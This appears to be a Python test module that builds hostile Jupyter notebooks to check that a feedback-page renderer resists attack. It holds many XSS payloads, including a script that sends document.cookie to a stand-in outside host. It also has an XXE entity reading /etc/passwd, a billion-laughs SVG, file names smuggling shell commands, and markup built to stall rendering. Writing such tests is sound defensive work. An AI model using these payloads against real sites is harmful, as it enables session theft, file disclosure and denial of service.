"""Attacks on whoever opens a page of feedback: scripts wherever a page shows them, and what renders slowly."""

from nbformat import NotebookNode
from nbformat.v4 import new_code_cell, new_markdown_cell, new_output, new_raw_cell

from tests.attacks.attack import Attack, show

_SOURCES = [
    "<script>window.ran = 1</script>",
    "<img src=x onerror='window.ran = 1'>",
    "<iframe srcdoc='<script>parent.ran = 1</script>'></iframe>",
    "<svg><animate onbegin='window.ran = 1' attributeName=x dur=1s></svg>",
    "<details open ontoggle='window.ran = 1'><summary>x</summary></details>",
    "<math><mtext><table><mglyph><style><img src onerror='window.ran = 1'></style></mglyph></table></mtext></math>",
    "<style>@import url('http://elsewhere.example/s.css');</style>",
    "<link rel=stylesheet href='http://elsewhere.example/l.css'>![x](http://elsewhere.example/pixel.png)",
    "<form action='http://elsewhere.example'><input autofocus onfocus='window.ran = 1'></form>",
    "$\\unicode{<img src=x onerror='window.ran = 1'>}$ <base href='http://elsewhere.example/'>",
    "<meta http-equiv=refresh content='0;url=http://elsewhere.example/'>",
    "```\n</code></pre><script>window.ran = 1</script>\n```",
]


def _script_in_markdown(notebook: NotebookNode) -> None:
    for source in _SOURCES:
        notebook.cells.insert(1, new_markdown_cell(source))
        notebook.cells.insert(1, new_raw_cell(source))
        notebook.cells.insert(1, new_raw_cell(source, metadata={"raw_mimetype": "text/html"}))


_OUT = "\"'><img src=x onerror='window.ran = 1'><script>window.ran = 1</script>"


def _script_in_metadata(notebook: NotebookNode) -> None:
    code, picture, page = (
        new_code_cell("1"),
        *(new_markdown_cell(f"![x](attachment:{name})") for name in ("x.png", "x")),
    )
    code.metadata = {"tags": [_OUT], "slideshow": {"slide_type": _OUT}, "class": _OUT}
    notebook.cells[0].metadata = {"tags": [_OUT]}
    picture.attachments = {"x.png": {"image/png": _OUT}}
    page.attachments = {"x": {"text/html": _OUT, "image/svg+xml": _OUT}}
    for cell in (code, picture, page):
        notebook.cells.insert(1, cell)
    notebook.metadata.update(
        title=_OUT,
        authors=[{"name": _OUT}],
        widgets={"application/vnd.jupyter.widget-state+json": {"state": {"x": _OUT + "</script>"}}},
    )
    notebook.metadata.language_info = {"name": _OUT, "pygments_lexer": _OUT, "codemirror_mode": _OUT, "mimetype": _OUT}
    notebook.metadata.kernelspec = {"name": "python3", "language": _OUT, "display_name": _OUT}


_SCRIPT = "<script>window.ran = 1; fetch('http://elsewhere.example/?' + document.cookie)</script>"

_EVENT = "<img src=x onerror=\"window.ran = 1; fetch('http://elsewhere.example/e')\">"


def _script_in_outputs(notebook: NotebookNode) -> None:
    kinds = {
        "text/html": _SCRIPT + _EVENT,
        "application/javascript": "window.ran = 1",
        "image/svg+xml": f"<svg xmlns='http://www.w3.org/2000/svg' onload='window.ran = 1'>{_SCRIPT}</svg>",
        "text/latex": f"$$ {_SCRIPT} $$",
        "text/markdown": _SCRIPT + _EVENT + "[x](javascript:window.ran=1)",
        "image/png": "x' onerror='window.ran = 1",
        "text/plain": _SCRIPT,
        "application/vnd.jupyter.widget-view+json": {"model_id": "</script>" + _SCRIPT},
    }
    outputs = [new_output("display_data", data={kind: data}) for kind, data in kinds.items()]
    outputs.append(new_output("stream", name="stdout", text=f"\x1b[31m{_SCRIPT}\x1b]8;;javascript:1\x07"))
    outputs.append(new_output("error", ename=_SCRIPT, evalue=_EVENT, traceback=[_SCRIPT, _EVENT]))
    show(notebook, outputs)


def _script_in_an_execution_count(notebook: NotebookNode) -> None:
    for cell in notebook.cells:
        if cell.cell_type == "code":
            cell.execution_count = "<img src=x onerror='window.ran = 1'>"


def _script_in_a_cell_id(notebook: NotebookNode) -> None:
    notebook.cells[0].id = "\"'><script>window.ran = 1</script>"


_ENTITIES = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))

_LAUGHS = (
    f'<!DOCTYPE svg [<!ENTITY l0 "lol">{_ENTITIES}]><svg xmlns="http://www.w3.org/2000/svg"><text>&l9;</text></svg>'
)

_LOADS = (
    '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text>'
    '<image href="http://elsewhere.example/i.png"/><foreignObject><body xmlns="http://www.w3.org/1999/xhtml">'
    "<script>parent.ran = 1</script></body></foreignObject></svg>"
)


def _drawing_of_a_billion_laughs(notebook: NotebookNode) -> None:
    show(notebook, [new_output("display_data", data={"image/svg+xml": one}) for one in (_LAUGHS, _LOADS)])


def _markup_that_takes_for_ever(notebook: NotebookNode) -> None:
    for source in (
        "<div>" * 20_000,
        "[" * 20_000,
        "*a_" * 20_000,
        "`" * 20_001,
        "> " * 5_000 + "x",
        "$" * 20_001,
        "\\begin{a}" * 16_000,
    ):
        notebook.cells.insert(1, new_markdown_cell(source))
    stored = ("<b>" * 60_000, "<table><tr><td>" * 20_000, '<a href="' * 60_000)
    show(notebook, [new_output("display_data", data={"text/html": html}) for html in stored])


def _notebook_of_many_cells(notebook: NotebookNode) -> None:
    notebook.cells += [new_markdown_cell("x" * 400) for _ in range(4_500)]
    shown = [new_output("stream", name="stdout", text="y" * 36_000)]
    notebook.cells += [new_code_cell("", outputs=shown) for _ in range(500)]


ATTACKS = (
    Attack(
        "script-in-markdown",
        "Writes scripts, frames and forms into Markdown cells and raw cells",
        edit=_script_in_markdown,
        in_page=True,
    ),
    Attack(
        "script-in-metadata",
        "Writes scripts into tags, titles and attachments, where templates put them into the page",
        edit=_script_in_metadata,
        in_page=True,
    ),
    Attack(
        "script-in-outputs",
        "Stores outputs with scripts for the browser of whoever looks at them",
        edit=_script_in_outputs,
        in_page=True,
    ),
    Attack(
        "script-in-a-file-name",
        "Hands in files whose names are HTML and terminal commands",
        files={
            "<img src=x onerror='window.ran = 1'>.txt": "x",
            "\x1b]0;hostile\x07.txt": "x",
            "-rf": "x",
            "$(touch hostile-file).txt": "x",
            "x; touch hostile-file": "x",
        },
        in_page=True,
    ),
    Attack(
        "script-in-an-execution-count",
        "Writes a script in the place of the number of a cell, which the page shows as it is",
        edit=_script_in_an_execution_count,
        in_page=True,
    ),
    Attack(
        "script-in-a-cell-id",
        "Writes a script in the place of a cell's id, which the page has as an anchor",
        edit=_script_in_a_cell_id,
        keeps={},
    ),
    Attack(
        "drawing-of-a-billion-laughs",
        "Stores a drawing whose entities expand to a billion, and one that loads files of the machine",
        edit=_drawing_of_a_billion_laughs,
        in_page=True,
    ),
    Attack(
        "markup-that-takes-for-ever",
        "Stores Markdown and HTML that take hours to be rendered or cleaned",
        edit=_markup_that_takes_for_ever,
    ),
    Attack(
        "notebook-of-many-cells",
        "Hands in a notebook of five thousand cells and twenty megabytes",
        edit=_notebook_of_many_cells,
    ),
)
